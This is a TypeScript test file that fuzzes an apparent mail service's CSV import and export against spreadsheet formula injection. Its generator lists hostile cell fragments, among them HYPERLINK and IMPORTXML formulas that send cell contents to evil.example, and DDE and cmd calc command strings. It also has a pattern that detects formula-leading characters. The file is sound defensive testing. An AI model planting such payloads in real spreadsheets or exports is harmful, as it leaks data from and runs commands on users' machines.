import { describe, expect, it } from 'vitest'
import { csvLine, withoutGuard } from '../../packages/core/src/domain/csv/index.js'
import { aService, DAY, refused, SENDER, START, settle } from '../e2e/a-service.js'
import { type Dice, dice, oneOf } from './dice.js'

const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\r\n@',
  "'=",
  '"=',
  '"\'=',
  ' =',
  ';=',
  'a;=',
  'a\t-',
  'a\n+',
  'a,=',
  '\t',
  '\r',
  '\n',
  '',
  "'",
]
const middles = [
  '1+1',
  'HYPERLINK("http://evil.example/?x="&A1,"x")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  'IMPORTXML(CONCAT("//evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  'A1',
  '"x"',
  'ä漢😀',
  '',
]
const endings = ['', '"', "'", ',', ';', '\t', '\n', '\r\n=1', ';@x', ' ']
const cell = (roll: Dice): string =>
  Array.from({ length: 1 + roll(2) }, () => oneOf(roll, beginnings) + oneOf(roll, middles) + oneOf(roll, endings)).join(
    '',
  )

/** RFC 4180 by hand, sharing nothing with what is tested. */
function rowsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]]
  let field = ''
  let quoted = false
  for (let at = 0; at < text.length; at += 1) {
    const char = text.charAt(at)
    if (quoted && char === '"' && text[at + 1] === '"') {
      field += '"'
      at += 1
    } else if (char === '"') quoted = !quoted
    else if (!quoted && (char === ',' || text.startsWith('\r\n', at))) {
      rows.at(-1)?.push(field)
      field = ''
      if (char === '\r') {
        rows.push([])
        at += 1
      }
    } else field += char
  }
  return rows.slice(0, -1)
}

const formula = /^['"]*[=+\-@＝＋－＠]/
/** What a spreadsheet may make cells of, also one that parts at semicolons or tabs whatever the quotes say. */
const isDangerous = (read: string): boolean =>
  /^[\t\r\n]/.test(read) || read.split(/[;\t\r\n]/).some((part) => formula.test(part) && !part.startsWith("'"))

async function textOf(lines: AsyncIterable<string>): Promise<string> {
  let text = ''
  for await (const line of lines) text += line
  return text
}

describe('formulas in exports', () => {
  it('DLV-3, T6: of 5,000 generated cells none is read as a formula, and each comes home as it left', () => {
    const roll = dice(6)
    const cells = Array.from({ length: 5_000 }, () => cell(roll))
    expect(cells.filter((one) => isDangerous(one)).length).toBeGreaterThan(3_000)
    const rows = rowsOf(cells.map((one) => csvLine([one, 'x', one])).join(''))
    expect(rows).toHaveLength(5_000)
    expect(rows.flatMap(([first = '', , last = '']) => [first, last]).filter(isDangerous)).toEqual([])
    expect(rows.map(([first = '', x, last = '']) => [withoutGuard(first), x, withoutGuard(last)])).toEqual(
      cells.map((one) => [one, 'x', one]),
    )
  })

  it('GRP-4, DLV-3, T6: an import keeps 2,000 such cells but for the guard of an export, and no export of what came of them holds a formula', async () => {
    const roll = dice(7)
    const replies = [...beginnings, ...middles].map((one) => one.replace(/[\r\n\t]/g, ' '))
    const service = await aService({
      policy: { startLevel: 20 },
      answer: () => refused(550, '5.1.1', oneOf(roll, replies)),
    })
    const { mail } = service
    await mail.groups.create({ name: 'readers' })
    const names = Array.from({ length: 2_000 }, () => cell(roll))
    const people = names.map((_, at) => `${oneOf(roll, ['=', '+', '-', 'a'])}r${at}@readers.example`)
    const csv = names.map((name, at) => `${people[at]},"${name.replaceAll('"', '""')}"\r\n`).join('')
    const report = await mail.groups.importCsv('readers', `email,name\r\n${csv}`)
    expect(report.valid).toBe(2_000)
    const kept = new Map<string, string | undefined>()
    for (let cursor: string | null | undefined; cursor !== null; ) {
      const page = await mail.groups.recipients('readers', { limit: 500, ...(cursor ? { cursor } : {}) })
      for (const { address, values } of page.items) kept.set(address, values.name)
      cursor = page.next
    }
    // Only a ' that our own export would have put there is taken away.
    expect(people.map((address) => kept.get(address))).toEqual(names.map(withoutGuard))
    expect(names.filter((name) => withoutGuard(name) === name).length).toBeGreaterThan(1_500)

    await mail.templates.create({ name: '=1+1', subject: 'Hi', html: '<p>{{name}}</p>' })
    await mail.tasks.create({
      type: 'immediate',
      name: '@task',
      from: SENDER,
      template: '=1+1',
      group: 'readers',
      tags: { kind: '=1+1' },
    })
    await settle(service)
    const exports = [
      ...(['messages', 'bounces', 'opens', 'clicks', 'complaints', 'unsubscribes'] as const).map((list) =>
        mail.deliveries.exportCsv({ list }),
      ),
      mail.statistics.exportCsv({
        figures: 'sending',
        from: START - DAY,
        to: START + DAY,
        by: ['day', 'template', 'task', 'recipientDomain', 'tag:kind'],
      }),
    ]
    const texts = await Promise.all(exports.map(textOf))
    const read = texts.map((text) => rowsOf(text.replace(/^\uFEFF/, '')))
    expect(
      read[0]
        ?.slice(1)
        .map(([email = '']) => withoutGuard(email))
        .sort(),
    ).toEqual([...people].sort())
    // The statistics hold the hostile tag, and both files hold every kind of cell that was put in.
    expect(texts.at(-1)).toContain("'=1+1")
    expect(texts[1]).toContain('5.1.1 ')
    expect(read.flat(2).filter((one) => isDangerous(one) && Number.isNaN(Number(one)))).toEqual([])
  })
})
